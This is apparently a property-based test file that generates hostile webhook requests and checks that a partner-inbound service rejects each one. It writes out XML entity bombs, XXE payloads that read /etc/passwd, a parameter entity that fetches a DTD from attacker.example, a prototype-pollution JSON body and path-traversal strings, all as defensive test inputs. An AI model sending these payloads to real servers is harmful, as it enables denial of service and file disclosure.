import fc from "fast-check";
import { easypostSignature, shippoSignature } from "../../sidecar/src/partners/verify/index.ts";
import { cxmlConfirmation, easypostTracking, shippoTracking, aftershipTracking, signed, SECRETS } from "./support.ts";

/**
 * Hostile requests for POST /inbound/<partner>, as a fast-check arbitrary: forged and
 * missing signatures, stale timestamps, replays, oversized bodies, malformed XML and JSON
 * (validly signed, so they reach the parsers), entity bombs, wrong content types, unknown
 * partners, other methods. Each case says what answer it must get.
 */
export interface HostileRequest {
  kind: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string | Buffer | null;
  /** Acceptable statuses. */
  expect: number[];
  /** A replay of an accepted message: answered 2xx with duplicate: true, applied nothing. */
  replay?: boolean;
}

/** Requests that were accepted once before the run (their replays must be deduplicated). */
export interface AcceptedMessage {
  partner: string;
  body: string;
  headers: Record<string, string>;
}

export const HOSTILE_MAX_BODY = 64 * 1024;

const JSON_PARTNERS = ["EASYPOST", "SHIPPO", "AFTERSHIP", "CANON"] as const;
type JsonPartner = (typeof JSON_PARTNERS)[number];

const now = () => Math.floor(Date.now() / 1000);

/** Headers a JSON partner signs `body` with, correctly. */
export function validHeaders(partner: JsonPartner, body: string | Buffer): Record<string, string> {
  switch (partner) {
    case "EASYPOST":
      return signed.easypost(body);
    case "SHIPPO":
      return signed.shippo(body);
    case "AFTERSHIP":
      return signed.aftership(body);
    case "CANON":
      return signed.standard(body);
  }
}

/** A well-formed document of each JSON partner (for forgeries and replays). */
function sampleBody(partner: JsonPartner, n: number): string {
  const at = new Date(Date.UTC(2026, 11, 1, 8, n % 60)).toISOString();
  switch (partner) {
    case "EASYPOST":
      return easypostTracking({ tracking: `HOSTILE-${n}`, status: "in_transit", at });
    case "SHIPPO":
      return shippoTracking({ tracking: `HOSTILE-${n}`, status: "TRANSIT", at });
    case "AFTERSHIP":
      return aftershipTracking({ tracking: `HOSTILE-${n}`, tag: "InTransit", at });
    case "CANON":
      return JSON.stringify({ id: "0b7e4c1e-5a0f-4f57-9d8e-4d0f1a2b3c4d", type: "carrier.tracking_updated", version: 1, occurred_at: at, subject: { model: "stock.picking", id: 1, ref: `HOSTILE-${n}` }, data: { tracking_number: `HOSTILE-${n}` } });
  }
}

const BILLION_LAUGHS = (secret: string) => `<?xml version="1.0"?>
<!DOCTYPE cXML [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<cXML payloadID="bomb@x" timestamp="2026-11-26T10:00:00Z"><Header><Sender><Credential domain="NetworkID"><Identity>WOODCORNER</Identity><SharedSecret>${secret}</SharedSecret></Credential></Sender></Header><Request><ConfirmationRequest><ConfirmationHeader type="accept" noticeDate="2026-11-26T10:00:00Z"><Comments>&lol9;</Comments></ConfirmationHeader><OrderReference orderID="P1"/></ConfirmationRequest></Request></cXML>`;
const XXE = (secret: string) => `<?xml version="1.0"?>
<!DOCTYPE cXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<cXML payloadID="xxe@x" timestamp="2026-11-26T10:00:00Z"><Header><Sender><Credential domain="NetworkID"><Identity>WOODCORNER</Identity><SharedSecret>${secret}</SharedSecret></Credential></Sender></Header><Request><ConfirmationRequest><ConfirmationHeader type="accept" noticeDate="2026-11-26T10:00:00Z"><Comments>&xxe;</Comments></ConfirmationHeader><OrderReference orderID="P1"/></ConfirmationRequest></Request></cXML>`;
const PARAMETER_ENTITY = (secret: string) =>
  `<?xml version="1.0"?>\n<!DOCTYPE cXML [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>\n<cXML><Header><Sender><Credential domain="x"><Identity>WOODCORNER</Identity><SharedSecret>${secret}</SharedSecret></Credential></Sender></Header></cXML>`;
const QUADRATIC_BLOWUP = (secret: string) => `<?xml version="1.0"?>\n<!DOCTYPE cXML [<!ENTITY a "${"x".repeat(5000)}">]>\n<cXML><Header><Sender><Credential domain="x"><Identity>W</Identity><SharedSecret>${secret}</SharedSecret></Credential></Sender></Header><Request><X>${"&a;".repeat(2000)}</X></Request></cXML>`;
const EXTERNAL_DTD = (secret: string) =>
  `<?xml version="1.0"?>\n<!DOCTYPE cXML SYSTEM "file:///etc/passwd">\n<cXML><Header><Sender><Credential domain="x"><Identity>WOODCORNER</Identity><SharedSecret>${secret}</SharedSecret></Credential></Sender></Header></cXML>`;

/** A strict prefix of a document with no trailing whitespace: never well-formed JSON or XML. */
const truncated = (doc: string, cut: number) => {
  const trimmed = doc.trimEnd();
  return trimmed.slice(0, Math.max(0, Math.min(trimmed.length - 1, cut)));
};

export function hostileRequests(accepted: readonly AcceptedMessage[]): fc.Arbitrary<HostileRequest> {
  const jsonPartner = fc.constantFrom(...JSON_PARTNERS);
  const n = fc.nat({ max: 1_000_000 });
  const validCxml = n.map((i) => cxmlConfirmation({ po: `P${i}`, type: "accept", payloadId: `hostile-${i}@x` }));
  const hex = fc.stringMatching(/^[0-9a-f]{0,80}$/);
  const base64 = fc.stringMatching(/^[A-Za-z0-9+/]{0,60}={0,2}$/);
  const xmlHeaders = signed.xml();

  const forged: fc.Arbitrary<HostileRequest> = fc.oneof(
    fc.tuple(n, hex).map(([i, h]): HostileRequest => {
      const body = sampleBody("EASYPOST", i);
      return { kind: "forged signature", method: "POST", path: "/inbound/EASYPOST", headers: { "content-type": "application/json", "x-hmac-signature": `hmac-sha256-hex=${h}` }, body, expect: [401] };
    }),
    fc.tuple(n, fc.string({ minLength: 1, maxLength: 30 })).map(([i, secret]): HostileRequest => {
      const body = sampleBody("EASYPOST", i);
      return { kind: "forged signature", method: "POST", path: "/inbound/EASYPOST", headers: { "content-type": "application/json", "x-hmac-signature": easypostSignature(body, `${secret}x`) }, body, expect: [401] };
    }),
    fc.tuple(n, hex).map(([i, h]): HostileRequest => {
      const body = sampleBody("SHIPPO", i);
      return { kind: "forged signature", method: "POST", path: "/inbound/SHIPPO", headers: { "content-type": "application/json", "shippo-auth-signature": `t=${now()},v1=${h}` }, body, expect: [401] };
    }),
    fc.tuple(n, base64).map(([i, b]): HostileRequest => {
      const body = sampleBody("AFTERSHIP", i);
      return { kind: "forged signature", method: "POST", path: "/inbound/AFTERSHIP", headers: { "content-type": "application/json", "aftership-hmac-sha256": b || "x" }, body, expect: [401] };
    }),
    fc.tuple(n, base64).map(([i, b]): HostileRequest => {
      const body = sampleBody("CANON", i);
      return { kind: "forged signature", method: "POST", path: "/inbound/CANON", headers: { "content-type": "application/json", "webhook-id": `msg_${i}`, "webhook-timestamp": String(now()), "webhook-signature": `v1,${b}` }, body, expect: [401] };
    }),
    fc.tuple(validCxml, fc.string({ minLength: 1, maxLength: 20 })).map(([doc, secret]): HostileRequest => ({
      kind: "forged signature",
      method: "POST",
      path: "/inbound/WOODCORNER",
      headers: xmlHeaders,
      body: doc.replace(SECRETS.WOODCORNER, () => `${secret.replace(/[<&\u0000-\u001f\]]/g, "")}!`),
      expect: [401],
    })),
    // Signed for one partner, posted to another.
    fc.tuple(n, jsonPartner, jsonPartner).filter(([, a, b]) => a !== b).map(([i, from, to]): HostileRequest => {
      const body = sampleBody(to, i);
      return { kind: "forged signature", method: "POST", path: `/inbound/${to}`, headers: validHeaders(from, body), body, expect: [401] };
    }),
    // A signature over other bytes (one changed byte, a trailing newline).
    fc.tuple(n, jsonPartner).map(([i, p]): HostileRequest => {
      const body = sampleBody(p, i);
      return { kind: "forged signature", method: "POST", path: `/inbound/${p}`, headers: validHeaders(p, body), body: `${body}\n`, expect: [401] };
    }),
  );

  const missing: fc.Arbitrary<HostileRequest> = fc.oneof(
    fc.tuple(n, jsonPartner).map(([i, p]): HostileRequest => ({ kind: "missing signature", method: "POST", path: `/inbound/${p}`, headers: { "content-type": "application/json" }, body: sampleBody(p, i), expect: [401] })),
    validCxml.map((doc): HostileRequest => ({ kind: "missing signature", method: "POST", path: "/inbound/WOODCORNER", headers: xmlHeaders, body: doc.replace(/<SharedSecret>[^<]*<\/SharedSecret>/, ""), expect: [401] })),
    n.map((i): HostileRequest => ({ kind: "missing signature", method: "POST", path: "/inbound/SHIPPO-TOKEN", headers: { "content-type": "application/json" }, body: sampleBody("SHIPPO", i), expect: [401] })),
  );

  // Well past the 300 s tolerance, even counting the time between generating and sending.
  const skew = fc.integer({ min: 900, max: 10_000_000 }).chain((d) => fc.constantFrom(d, -d));
  const stale: fc.Arbitrary<HostileRequest> = fc.oneof(
    fc.tuple(n, skew).map(([i, d]): HostileRequest => {
      const body = sampleBody("CANON", i);
      return { kind: "stale timestamp", method: "POST", path: "/inbound/CANON", headers: signed.standard(body, SECRETS.CANONICAL, `msg_${i}`, new Date((now() + d) * 1000)), body, expect: [401] };
    }),
    fc.tuple(n, skew).map(([i, d]): HostileRequest => {
      const body = sampleBody("SHIPPO", i);
      const t = now() + d;
      return { kind: "stale timestamp", method: "POST", path: "/inbound/SHIPPO", headers: { "content-type": "application/json", "shippo-auth-signature": `t=${t},v1=${shippoSignature(body, SECRETS.SHIPPO, t)}` }, body, expect: [401] };
    }),
  );

  const replay: fc.Arbitrary<HostileRequest> =
    accepted.length === 0
      ? stale
      : fc.constantFrom(...accepted).map((m): HostileRequest => ({ kind: "replayed message", method: "POST", path: `/inbound/${m.partner}`, headers: m.headers, body: m.body, expect: [200, 202, 401], replay: true }));

  const oversized: fc.Arbitrary<HostileRequest> = fc.oneof(
    fc.tuple(jsonPartner, fc.integer({ min: 1, max: 4096 })).map(([p, extra]): HostileRequest => {
      const body = `{"pad":"${"a".repeat(HOSTILE_MAX_BODY + extra)}"}`;
      return { kind: "oversized body", method: "POST", path: `/inbound/${p}`, headers: validHeaders(p, body), body, expect: [413] };
    }),
    fc.integer({ min: 1, max: 4096 }).map((extra): HostileRequest => ({
      kind: "oversized body",
      method: "POST",
      path: "/inbound/WOODCORNER",
      headers: xmlHeaders,
      body: cxmlConfirmation({ po: "P1", type: "accept", comment: "x".repeat(HOSTILE_MAX_BODY + extra) }),
      expect: [413],
    })),
  );

  const junkJson = fc.oneof(
    fc.tuple(n, jsonPartner, fc.nat()).map(([i, p, cut]) => ({ p, body: truncated(sampleBody(p, i), cut % 400) })),
    fc.tuple(jsonPartner, fc.uint8Array({ minLength: 1, maxLength: 300 })).map(([p, bytes]) => ({ p, body: Buffer.concat([Buffer.from([0xff, 0xfe, 0x7b]), Buffer.from(bytes)]) })),
    fc.tuple(jsonPartner, fc.string({ maxLength: 200 })).map(([p, text]) => ({ p, body: `{${text}` })),
    // Valid JSON of the wrong shape: never an object with the keys a decoder needs.
    fc.tuple(jsonPartner, fc.oneof(fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 5 }), fc.double({ noNaN: true }), fc.string({ maxLength: 50 }), fc.constant(null), fc.boolean())).map(([p, v]) => ({ p, body: JSON.stringify(v) })),
    fc.tuple(jsonPartner, fc.dictionary(fc.string({ maxLength: 12 }).filter((k) => !["object", "event", "msg", "data", "id", "type", "resource_type"].includes(k)), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 6 })).map(([p, v]) => ({
      p,
      body: JSON.stringify(v),
    })),
    fc.tuple(jsonPartner, fc.integer({ min: 1000, max: 20_000 })).map(([p, depth]) => ({ p, body: "[".repeat(depth) + "]".repeat(depth) })),
    jsonPartner.map((p) => ({ p, body: '{"__proto__":{"object":"Event","description":"tracker.updated","result":{"object":"Tracker"}},"constructor":{"prototype":{"polluted":true}}}' })),
  );
  const malformedJson = junkJson.map(({ p, body }): HostileRequest => ({ kind: "malformed JSON", method: "POST", path: `/inbound/${p}`, headers: validHeaders(p, body), body, expect: [400] }));

  const malformedXml: fc.Arbitrary<HostileRequest> = fc.oneof(
    fc.tuple(validCxml, fc.nat()).map(([doc, cut]): HostileRequest => {
      // Cut after the credential, so the document is authentic but not well-formed.
      const at = doc.indexOf("</Header>") + 9 + (cut % (doc.trimEnd().length - doc.indexOf("</Header>") - 10));
      return { kind: "malformed XML", method: "POST", path: "/inbound/WOODCORNER", headers: xmlHeaders, body: doc.slice(0, at), expect: [400] };
    }),
    fc.tuple(validCxml, fc.constantFrom("<", "&", "</cXML>", "<!--", "]]>", "\u0000", "<a></b>")).map(([doc, junk]): HostileRequest => ({
      kind: "malformed XML",
      method: "POST",
      path: "/inbound/WOODCORNER",
      headers: xmlHeaders,
      body: doc.replace("<OrderReference", `${junk}<OrderReference`),
      expect: [400],
    })),
    fc.tuple(fc.uint8Array({ minLength: 1, maxLength: 300 })).map(([bytes]): HostileRequest => ({ kind: "malformed XML", method: "POST", path: "/inbound/WOODCORNER", headers: xmlHeaders, body: Buffer.from(bytes), expect: [400, 401] })),
    validCxml.map((doc): HostileRequest => ({ kind: "malformed XML", method: "POST", path: "/inbound/WOODCORNER", headers: xmlHeaders, body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(doc, "utf16le")]), expect: [400] })),
    validCxml.map((doc): HostileRequest => ({ kind: "malformed XML", method: "POST", path: "/inbound/WOODCORNER", headers: xmlHeaders, body: doc.replace("</cXML>", "</cXML><cXML/>"), expect: [400] })),
  );

  const bombs: fc.Arbitrary<HostileRequest> = fc.constantFrom(BILLION_LAUGHS, XXE, PARAMETER_ENTITY, QUADRATIC_BLOWUP, EXTERNAL_DTD).map((make): HostileRequest => ({
    kind: "entity bomb",
    method: "POST",
    path: "/inbound/WOODCORNER",
    headers: xmlHeaders,
    body: make(SECRETS.WOODCORNER),
    expect: [400],
  }));

  const badTypes = ["text/plain", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/octet-stream", "text/html", "image/png", "application/jsonx", "json", ""];
  const wrongType: fc.Arbitrary<HostileRequest> = fc.oneof(
    fc.tuple(n, jsonPartner, fc.constantFrom(...badTypes, "application/xml", "text/xml")).map(([i, p, type]): HostileRequest => {
      const body = sampleBody(p, i);
      const headers = { ...validHeaders(p, body) };
      if (type) headers["content-type"] = type;
      else delete (headers as Record<string, string>)["content-type"];
      return { kind: "wrong content type", method: "POST", path: `/inbound/${p}`, headers, body, expect: [415] };
    }),
    fc.tuple(validCxml, fc.constantFrom(...badTypes, "application/json")).map(([doc, type]): HostileRequest => ({
      kind: "wrong content type",
      method: "POST",
      path: "/inbound/WOODCORNER",
      headers: type ? { "content-type": type } : {},
      body: doc,
      expect: [415],
    })),
  );

  const unknownPartner: fc.Arbitrary<HostileRequest> = fc.oneof(
    fc.stringMatching(/^[A-Za-z0-9_.-]{1,80}$/).filter((c) => !["WOODCORNER", "DNAS", "FOCXML", "PEPPOL", "EASYPOST", "EASYPOST-TEST", "SHIPPO", "SHIPPO-TOKEN", "AFTERSHIP", "CANON", ".", ".."].includes(c)),
    fc.constantFrom("..%2F..%2Fadmin", "%00", "EASYPOST%20", "easypost", "__proto__", "constructor", "EASYPOST/..", "%2e%2e"),
  ).map((code): HostileRequest => ({ kind: "unknown partner", method: "POST", path: `/inbound/${code}`, headers: { "content-type": "application/json" }, body: "{}", expect: [404] }));

  const otherMethods: fc.Arbitrary<HostileRequest> = fc.tuple(fc.constantFrom("GET", "PUT", "DELETE", "PATCH"), jsonPartner).map(([method, p]): HostileRequest => ({
    kind: "wrong method",
    method,
    path: `/inbound/${p}`,
    headers: {},
    body: method === "GET" ? null : "{}",
    expect: [404, 405],
  }));

  return fc.oneof(
    { arbitrary: forged, weight: 3 },
    { arbitrary: missing, weight: 2 },
    { arbitrary: stale, weight: 2 },
    { arbitrary: replay, weight: 2 },
    { arbitrary: oversized, weight: 1 },
    { arbitrary: malformedJson, weight: 3 },
    { arbitrary: malformedXml, weight: 3 },
    { arbitrary: bombs, weight: 1 },
    { arbitrary: wrongType, weight: 2 },
    { arbitrary: unknownPartner, weight: 1 },
    { arbitrary: otherMethods, weight: 1 },
  );
}

